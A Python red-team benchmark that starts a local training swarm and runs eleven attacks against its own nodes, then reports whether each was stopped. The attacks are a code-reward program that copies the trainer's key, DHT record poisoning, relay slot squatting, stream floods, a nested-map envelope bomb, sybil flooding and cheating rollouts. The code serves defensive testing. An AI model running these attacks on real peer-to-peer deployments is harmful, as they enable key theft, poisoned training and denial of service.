@@ -1,0 +1,508 @@
+"""Red team: a real swarm on loopback, and one attacker at a time trying to take over, freeze or poison it.
+
+    python benchmarks/adversary.py [--window 20]
+
+The swarm: a trainer (tiny model, async level 8 so that cheaters' batches reach the validator rather than going
+stale), two honest inference nodes and a relay, as separate processes. Its training rate (trainer steps per second)
+is measured in a window without attack, then during each attack; the attacker is this process, with real keys,
+a real hivemind DHT peer, libp2p streams and HTTP, playing each class of attack the project's review found, the
+cheating producers benchmarks/toploc_detect.py knows, a sybil flood and a submission flood. For each: whether the
+attack achieved its aim (key read, bad data accepted, duplicate trained, node crashed, swarm frozen), and the
+honest training rate during it as a share of the attack-free rate. A table, then one line:
+
+    adversary attacks=N held=N bad_accepted=0 crashes=0 honest_rate_min=0.xx
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import copy
+import json
+import sys
+import tempfile
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import aiohttp
+import torch
+from aiohttp import web
+from hivemind.dht import DHT
+from hivemind.p2p import P2P, PeerID
+from hivemind.utils import get_dht_time
+
+from intellect_node.config import load_run_config
+from intellect_node.judging.validator import expected_proofs
+from intellect_node.judging.verifiers import run_code_tests
+from intellect_node.launch import NodeProcess
+from intellect_node.p2p.transport import DELIVERY_ERRORS, submit, submit_protocol
+from intellect_node.policy.model import build_model, build_tokenizer, encode_prompt, load_weights
+from intellect_node.roles.inference import generate_batch
+from intellect_node.weights.auth import signed_headers
+from intellect_node.weights.files import load_checkpoint, verify_manifest
+from intellect_protocol.envelope import seal
+from intellect_protocol.identity import Identity
+from intellect_protocol.messages import NodeRecord, RelayInfo, RolloutBatch, RolloutGroup, RunSpec, SubmitReply
+from intellect_protocol.records import CLOCK_SKEW_S, NODE_TTL_S, nodes_key
+from intellect_protocol.tasks import assigned_task
+
+SETTINGS = ["--set", "train.async_level=8"]
+
+
+@dataclass
+class Outcome:
+    name: str
+    aim: str
+    achieved: bool
+    detail: str
+    bad_accepted: int = 0
+    rate: float = 0.0
+
+
+class Swarm:
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.logs = root / "logs"
+        self.nodes: dict[str, NodeProcess] = {}
+        self.ready: dict[str, dict[str, Any]] = {}
+        self.client: DHT | None = None
+        self.run = load_run_config(None, SETTINGS[1::2])
+        self.tok = build_tokenizer(self.run.model)
+
+    def start(self, name: str, argv: list[str]) -> dict[str, Any]:
+        node = NodeProcess(name, argv, self.logs)
+        self.nodes[name] = node
+        self.ready[name] = node.wait_ready(timeout=120)
+        return self.ready[name]
+
+    def join(self, name: str, role: str) -> dict[str, Any]:
+        t = self.ready["trainer"]
+        return self.start(name, ["join", "--role", role, "--peers", t["p2p_maddrs"][0], "--run-id", t["run_id"],
+                                 "--data-dir", str(self.root / name)])  # fmt: skip
+
+    @property
+    def run_id(self) -> str:
+        return str(self.ready["trainer"]["run_id"])
+
+    @property
+    def trainer_url(self) -> str:
+        return str(self.ready["trainer"]["status_url"])
+
+    @property
+    def trainer_peer(self) -> str:
+        return str(self.ready["trainer"]["p2p_maddrs"][0]).rsplit("/p2p/", 1)[1]
+
+    def status(self, name: str = "trainer") -> dict[str, Any]:
+        with urllib.request.urlopen(self.ready[name]["status_url"] + "/status", timeout=10) as resp:
+            data: dict[str, Any] = json.load(resp)
+            return data
+
+    def crashed(self) -> list[str]:
+        return [name for name, node in self.nodes.items() if node.proc.poll() is not None]
+
+    def register(self, identity: Identity, role: str = "inference", **fields: Any) -> None:
+        assert self.client is not None
+        record = NodeRecord(run_id=self.run_id, node_id=identity.node_id, role=role, updated=time.time(), **fields)
+        self.client.store(nodes_key(self.run_id), seal(identity, record), get_dht_time() + NODE_TTL_S,
+                          subkey=identity.node_id)  # fmt: skip
+
+    def fake_batch(self, identity: Identity, version: int, index: int) -> RolloutBatch:
+        """Well-formed, the node's assigned tasks with the right answers, made-up proofs: passes the door."""
+        run, eos = self.run, int(self.tok.eos_token_id)
+        groups = []
+        for slot in range(run.task.tasks_per_batch):
+            task = assigned_task(run.seed, identity.node_id, version, index, slot, run.task.max_operand)
+            answer = list(self.tok.encode(task.answer, add_special_tokens=False)) + [eos]
+            proofs = [bytes(258)] * expected_proofs(len(answer), run.verify.decode_batch)
+            groups.append(RolloutGroup(slot=slot, prompt_ids=encode_prompt(self.tok, task.prompt),
+                                       completions=[answer] * run.sampling.group_size,
+                                       logprobs=[[-0.1] * len(answer)] * run.sampling.group_size,
+                                       proofs=[proofs] * run.sampling.group_size))  # fmt: skip
+        return RolloutBatch(run_id=self.run_id, node_id=identity.node_id, version=version, batch_index=index,
+                            groups=groups)  # fmt: skip
+
+    def close(self) -> None:
+        if self.client is not None:
+            self.client.shutdown()
+        for node in reversed(list(self.nodes.values())):
+            node.stop()
+
+
+def steps(swarm: Swarm) -> int:
+    return int(swarm.status()["step"])
+
+
+async def measure(swarm: Swarm, window: float, attack: Callable[[float], Awaitable[Outcome]]) -> Outcome:
+    """Run ``attack`` for ``window`` seconds while counting the trainer's steps."""
+    before = await asyncio.to_thread(steps, swarm)
+    started = time.monotonic()
+    outcome = await attack(started + window)
+    left = started + window - time.monotonic()
+    if left > 0:
+        await asyncio.sleep(left)
+    outcome.rate = (await asyncio.to_thread(steps, swarm) - before) / (time.monotonic() - started)
+    return outcome
+
+
+async def idle(swarm: Swarm, until: float) -> Outcome:
+    await asyncio.sleep(max(0.0, until - time.monotonic()))
+    return Outcome("none", "", False, "")
+
+
+# ---- the attacks --------------------------------------------------------------------------------------------
+
+
+async def key_theft(swarm: Swarm, until: float) -> Outcome:
+    """A code reward's program copies the trainer's key into a published version folder, then asks for it."""
+    data = swarm.root / "trainer"
+    version = sorted(int(p.name) for p in (data / "weights" / swarm.run_id).iterdir() if p.name.isdigit())[-1]
+    target = data / "weights" / swarm.run_id / str(version) / "k"
+    program = f"import shutil\nshutil.copy({str(data / 'node.key')!r}, {str(target)!r})\nprint('copied')\n"
+    copied = await asyncio.to_thread(run_code_tests, program, (("", "copied"),), 10.0, 256) > 0
+    async with aiohttp.ClientSession() as session:
+        async with session.get(f"{swarm.trainer_url}/weights/{version}/node.key") as r1:
+            served = r1.status == 200
+    achieved = copied or target.exists() or served
+    return Outcome("code reward steals the run key", "key read", achieved,
+                   f"copy {'ran' if copied else 'failed in the jail'}, GET key {'200' if served else 'refused'}")
+
+
+async def dht_poison(swarm: Swarm, until: float) -> Outcome:
+    """A record that passes store-time checks and turns stale while kept: it used to hide every node's record."""
+    attacker = Identity.generate()
+    now = time.time()
+    edge = now - NODE_TTL_S - CLOCK_SKEW_S + 2.0
+    record = NodeRecord(run_id=swarm.run_id, node_id=attacker.node_id, role="inference", updated=edge)
+    assert swarm.client is not None
+    stored = swarm.client.store(nodes_key(swarm.run_id), seal(attacker, record), now + NODE_TTL_S + CLOCK_SKEW_S,
+                                subkey=attacker.node_id)  # fmt: skip
+    before = {n: swarm.status(n)["rejections"].get("unknown_signer", 0) for n in ("honest-0", "honest-1")}
+    await asyncio.sleep(max(0.0, until - time.monotonic()))
+    after = {n: swarm.status(n)["rejections"].get("unknown_signer", 0) for n in ("honest-0", "honest-1")}
+    refused = sum(after.values()) - sum(before.values())
+    return Outcome("one DHT record poisons the nodes key", "swarm frozen", bool(stored) or refused > 0,
+                   f"store {'accepted' if stored else 'refused'}; honest batches refused as unknown: {refused}")
+
+
+async def relay_squat(swarm: Swarm, until: float) -> Outcome:
+    """Made-up node ids fill the origin's slots, strangers' DELETEs evict the real child, 503s leak children."""
+    relay_id = swarm.ready["relay"]["node_id"]
+    granted = leaked = sent = 0
+    async with aiohttp.ClientSession() as session:
+        while time.monotonic() < until:
+            stranger = Identity.generate()
+            for method, headers in (
+                ("POST", {"X-Intellect-Node": stranger.node_id}),
+                ("POST", signed_headers(stranger, "POST", "/relay/attach", swarm.run_id)),
+                ("DELETE", {"X-Intellect-Node": relay_id}),
+                ("DELETE", {**signed_headers(stranger, "DELETE", "/relay/attach", swarm.run_id),
+                            "X-Intellect-Node": relay_id}),
+            ):  # fmt: skip
+                async with session.request(method, f"{swarm.trainer_url}/relay/attach", headers=headers) as r:
+                    body = await r.text()
+                    sent += 1
+                    granted += r.status in (200, 204) and method == "POST"
+                    leaked += relay_id in body
+            await asyncio.sleep(0.02)
+    return Outcome("relay slots taken by made-up ids", "swarm frozen", granted > 0 or leaked > 0,
+                   f"{sent} requests: {granted} slots granted, {leaked} answers naming a child")
+
+
+async def duplicate_streams(swarm: Swarm, until: float) -> Outcome:
+    """One signed batch on 16 streams at once, from 8 libp2p peers."""
+    sender = Identity.generate()
+    swarm.register(sender)
+    await asyncio.sleep(1.0)
+    data = seal(sender, swarm.fake_batch(sender, steps(swarm), 0))
+    peers = [await P2P.create(initial_peers=swarm.ready["trainer"]["p2p_maddrs"][:1],
+                              host_maddrs=["/ip4/127.0.0.1/tcp/0"]) for _ in range(8)]  # fmt: skip
+    try:
+        answers = await asyncio.gather(*(submit(p, swarm.trainer_peer, swarm.run_id, data, swarm.run_id)
+                                         for p in peers for _ in range(2)), return_exceptions=True)  # fmt: skip
+    finally:
+        for p in peers:
+            await p.shutdown()
+    oks = sum(isinstance(a, SubmitReply) and a.ok for a in answers)
+    return Outcome("one batch on 16 streams at once", "duplicate trained", oks > 1, f"{oks} of 16 copies admitted")
+
+
+async def stalled_streams(swarm: Swarm, until: float) -> Outcome:
+    """Submit streams held open without a byte, reopened as the trainer cuts them, from 4 peers."""
+    peers = [await P2P.create(initial_peers=swarm.ready["trainer"]["p2p_maddrs"][:1],
+                              host_maddrs=["/ip4/127.0.0.1/tcp/0"]) for _ in range(4)]  # fmt: skip
+    opened = 0
+    held: list[Any] = []
+    try:
+        while time.monotonic() < until:
+            for p in peers:
+                try:
+                    held.append(await p.call_binary_stream_handler(PeerID.from_base58(swarm.trainer_peer),
+                                                                   submit_protocol(swarm.run_id)))  # fmt: skip
+                    opened += 1
+                except Exception:
+                    pass
+            held = held[-64:]
+            await asyncio.sleep(0.5)
+    finally:
+        for _, _, writer in held:
+            writer.close()
+        for p in peers:
+            await p.shutdown()
+    return Outcome("stalled submit streams", "swarm frozen", False, f"{opened} streams opened and left silent")
+
+
+async def envelope_bomb(swarm: Swarm, until: float) -> Outcome:
+    """4 MiB frames of nested empty maps (~300 MB and 0.4 s on the event loop each, when decoded whole)."""
+    bomb = b"\xdd" + (4 << 20).to_bytes(4, "big") + b"\x80" * (4 << 20)
+    assert swarm.client is not None
+    p2p = await swarm.client.replicate_p2p()
+    sent = 0
+    try:
+        while time.monotonic() < until:
+            try:
+                await asyncio.wait_for(submit(p2p, swarm.trainer_peer, swarm.run_id, bomb, swarm.run_id), 30)
+            except Exception:
+                pass
+            sent += 1
+    finally:
+        await p2p.shutdown()
+    rss = _rss_mb(swarm.nodes["trainer"].proc.pid)
+    return Outcome("nested-map envelope bombs", "node crashed", "trainer" in swarm.crashed(),
+                   f"{sent} frames of 4 MiB; trainer RSS {rss:.0f} MB after")
+
+
+async def sybil_flood(swarm: Swarm, until: float, keys: int = 200) -> Outcome:
+    """Hundreds of fresh keys, each registered and sending a batch that passes the door (made-up proofs)."""
+    sybils = [Identity.generate() for _ in range(keys)]
+    for s in sybils:
+        swarm.register(s)
+    await asyncio.sleep(1.0)
+    assert swarm.client is not None
+    p2p = await swarm.client.replicate_p2p()
+    replies: list[str] = []
+    try:
+        async def one(s: Identity) -> None:
+            try:
+                reply = await submit(p2p, swarm.trainer_peer, swarm.run_id,
+                                     seal(s, swarm.fake_batch(s, steps(swarm), 0)), swarm.run_id)  # fmt: skip
+                replies.append("ok" if reply.ok else reply.reason)
+            except DELIVERY_ERRORS:
+                replies.append("network")
+
+        for start in range(0, keys, 20):
+            if time.monotonic() > until:
+                break
+            await asyncio.gather(*(one(s) for s in sybils[start : start + 20]))
+    finally:
+        await p2p.shutdown()
+    await asyncio.sleep(max(0.0, until - time.monotonic()))
+    accepted = swarm.status()["accepted_groups_by_node"]
+    bad = sum(accepted.get(s.node_id, 0) for s in sybils)
+    counts = {r: replies.count(r) for r in sorted(set(replies))}
+    return Outcome(f"sybil flood ({keys} fresh keys)", "bad data accepted", bad > 0, f"replies {counts}", bad)
+
+
+async def submission_flood(swarm: Swarm, until: float) -> Outcome:
+    """One registered key sending batches as fast as it can, the next index each time."""
+    flooder = Identity.generate()
+    swarm.register(flooder)
+    await asyncio.sleep(1.0)
+    assert swarm.client is not None
+    p2p = await swarm.client.replicate_p2p()
+    index = sent = 0
+    reasons: dict[str, int] = {}
+    try:
+        while time.monotonic() < until:
+            try:
+                reply = await submit(p2p, swarm.trainer_peer, swarm.run_id,
+                                     seal(flooder, swarm.fake_batch(flooder, steps(swarm), index)), swarm.run_id)
+            except DELIVERY_ERRORS:
+                continue
+            sent += 1
+            index += reply.ok
+            reasons[reply.reason or "ok"] = reasons.get(reply.reason or "ok", 0) + 1
+    finally:
+        await p2p.shutdown()
+    bad = swarm.status()["accepted_groups_by_node"].get(flooder.node_id, 0)
+    return Outcome("submission flood (one key)", "bad data accepted", bad > 0, f"{sent} sent: {reasons}", bad)
+
+
+async def cheaters(swarm: Swarm, until: float) -> Outcome:
+    """toploc_detect's cheating producers, each a registered key generating on the real current weights."""
+    model = build_model(swarm.run.model, swarm.tok)
+    status = swarm.status()
+    version = status["weight_version"]
+    folder = swarm.root / "trainer" / "weights" / swarm.run_id / str(version)
+    manifest = verify_manifest((folder / "manifest.msgpack").read_bytes(), swarm.run_id, version)
+    load_weights(model, load_checkpoint(folder, manifest))
+    spec = RunSpec.model_validate(swarm.run.spec(swarm.run_id).model_dump())
+    perturbed = copy.deepcopy(model)
+    with torch.no_grad():
+        for p in perturbed.parameters():
+            p.mul_(1 + 0.01 * torch.randn_like(p))
+    kinds: dict[str, Callable[[Identity], RolloutBatch]] = {
+        "greedy": lambda k: generate_batch(spec, model, swarm.tok, k.node_id, version, 0, greedy=True),
+        "temperature 0.7": lambda k: generate_batch(spec, model, swarm.tok, k.node_id, version, 0,
+                                                    draw_temperature=0.7),
+        "perturbed weights": lambda k: generate_batch(spec, perturbed, swarm.tok, k.node_id, version, 0),
+        "edited token": lambda k: _edited(generate_batch(spec, model, swarm.tok, k.node_id, version, 0)),
+        "made-up proofs": lambda k: swarm.fake_batch(k, version, 0),
+    }  # fmt: skip
+    keys = {name: Identity.generate() for name in kinds}
+    for k in keys.values():
+        swarm.register(k)
+    await asyncio.sleep(1.0)
+    assert swarm.client is not None
+    p2p = await swarm.client.replicate_p2p()
+    replies = {}
+    try:
+        for name, make in kinds.items():
+            reply = await submit(p2p, swarm.trainer_peer, swarm.run_id, seal(keys[name], make(keys[name])),
+                                 swarm.run_id)  # fmt: skip
+            replies[name] = "admitted" if reply.ok else reply.reason
+    finally:
+        await p2p.shutdown()
+    await asyncio.sleep(max(0.0, until - time.monotonic()))
+    status = swarm.status()
+    bad = sum(status["accepted_groups_by_node"].get(k.node_id, 0) for k in keys.values())
+    banned = sum(k.node_id in status["banned"] for k in keys.values())
+    return Outcome("cheating producers (5 kinds)", "bad data accepted", bad > 0,
+                   f"{banned}/5 banned; at the door {replies}", bad)
+
+
+def _edited(batch: RolloutBatch) -> RolloutBatch:
+    g = batch.groups[0]
+    c = list(g.completions[0])
+    c[len(c) // 2] = (c[len(c) // 2] + 1) % 10 + 3
+    return batch.model_copy(update={"groups": [g.model_copy(update={"completions": [c, *g.completions[1:]]}),
+                                               *batch.groups[1:]]})  # fmt: skip
+
+
+async def hostile_parent(swarm: Swarm, until: float, mode: str) -> Outcome:
+    """A registered relay claiming depth 0 and a huge upload grants slots, then trickles shards (``trickle``) or
+    answers keep-alives with a 5,000-entry path (``path``); a relay that joins now chooses it first."""
+    liar = Identity.generate()
+    granted: list[bool] = []
+
+    async def attach(request: web.Request) -> web.Response:
+        path = [swarm.run_id, liar.node_id]
+        if mode == "path" and granted:
+            path = [swarm.run_id] + [liar.node_id] * 5000
+        granted.append(True)
+        return web.json_response({"depth": 1, "path": path, "token": "t"})
+
+    async def trickle(request: web.Request) -> web.StreamResponse:
+        resp = web.StreamResponse()
+        resp.content_length = 1 << 20
+        await resp.prepare(request)
+        for _ in range(1000):
+            await resp.write(b"\0")
+            await asyncio.sleep(1.0)
+        return resp
+
+    app = web.Application()
+    app.router.add_post("/relay/attach", attach)
+    app.router.add_get("/relay/next", lambda r: web.Response(status=204))
+    app.router.add_get("/weights/{version}/{name}", trickle)
+    runner = web.AppRunner(app)
+    await runner.setup()
+    site = web.TCPSite(runner, "127.0.0.1", 0)
+    await site.start()
+    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
+    relay = RelayInfo(depth=0, slots_total=64, slots_free=64, upload_bps=1e12, versions=list(range(10_000, 10_064)))
+    swarm.register(liar, role="relay", http_url=f"http://127.0.0.1:{port}", relay=relay)
+    name = f"newcomer-{mode}"
+    try:
+        await asyncio.to_thread(swarm.join, name, "relay")
+        got = -1
+        while time.monotonic() < until:
+            got = swarm.status(name)["weight_version"]
+            if got >= 0:
+                break
+            await asyncio.sleep(0.5)
+    finally:
+        await runner.cleanup()
+    crashed = name in swarm.crashed()
+    aim = "node crashed" if mode == "path" else "swarm frozen"
+    return Outcome(f"hostile parent ({'5,000-node path' if mode == 'path' else 'trickles shards'})", aim,
+                   crashed or got < 0, f"the new relay {'crashed' if crashed else f'holds version {got}'}")
+
+
+def _rss_mb(pid: int) -> float:
+    try:
+        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) / 1024
+    except OSError:
+        pass
+    return 0.0
+
+
+async def main_async(args: argparse.Namespace, root: Path) -> list[Outcome]:
+    swarm = Swarm(root)
+    try:
+        swarm.start("trainer", ["bootstrap", "--data-dir", str(root / "trainer"), *SETTINGS])
+        for i in range(2):
+            swarm.join(f"honest-{i}", "inference")
+        swarm.join("relay", "relay")
+        swarm.client = DHT(initial_peers=swarm.ready["trainer"]["p2p_maddrs"][:1], start=True,
+                           host_maddrs=["/ip4/127.0.0.1/tcp/0"])  # fmt: skip
+        while steps(swarm) < 5:
+            await asyncio.sleep(0.5)
+        control = await measure(swarm, args.window, lambda until: idle(swarm, until))
+        print(f"attack-free rate: {control.rate:.2f} steps/s", flush=True)
+        attacks: list[Callable[[float], Awaitable[Outcome]]] = [
+            lambda u: key_theft(swarm, u),
+            lambda u: dht_poison(swarm, u),
+            lambda u: relay_squat(swarm, u),
+            lambda u: duplicate_streams(swarm, u),
+            lambda u: stalled_streams(swarm, u),
+            lambda u: envelope_bomb(swarm, u),
+            lambda u: sybil_flood(swarm, u),
+            lambda u: submission_flood(swarm, u),
+            lambda u: cheaters(swarm, u),
+            lambda u: hostile_parent(swarm, u, "trickle"),
+            lambda u: hostile_parent(swarm, u, "path"),
+        ]
+        outcomes = []
+        for attack in attacks:
+            outcome = await measure(swarm, args.window, attack)
+            outcome.rate /= max(control.rate, 1e-9)
+            outcomes.append(outcome)
+            print(f"  {outcome.name}: {'ACHIEVED' if outcome.achieved else 'held'} rate={outcome.rate:.2f} "
+                  f"{outcome.detail}", flush=True)  # fmt: skip
+        crashes = [n for n in swarm.crashed() if not n.startswith("newcomer")]
+        if crashes:
+            outcomes.append(Outcome("any attack", "node crashed", True, f"crashed: {crashes}"))
+        return outcomes
+    finally:
+        swarm.close()
+
+
+def main() -> int:
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("--window", type=float, default=20.0, help="seconds each attack (and the control) lasts")
+    p.add_argument("--workdir", type=Path, help="keep the swarm's files and logs here")
+    args = p.parse_args()
+    root = args.workdir or Path(tempfile.mkdtemp(prefix="intellect-adversary-"))
+    outcomes = asyncio.run(main_async(args, root))
+    print("\n| attack | its aim | achieved | honest rate | what happened |\n|---|---|---|---|---|")
+    for o in outcomes:
+        print(f"| {o.name} | {o.aim} | {'YES' if o.achieved else 'no'} | {o.rate:.2f} | {o.detail} |")
+    held = sum(not o.achieved for o in outcomes)
+    bad = sum(o.bad_accepted for o in outcomes)
+    crashes = sum(o.aim == "node crashed" and o.achieved for o in outcomes)
+    rate_min = min((o.rate for o in outcomes if o.name != "any attack"), default=0.0)
+    print(f"logs: {root / 'logs'}")
+    print(f"adversary attacks={len(outcomes)} held={held} bad_accepted={bad} crashes={crashes} "
+          f"honest_rate_min={rate_min:.2f}")
+    return 0 if held == len(outcomes) else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
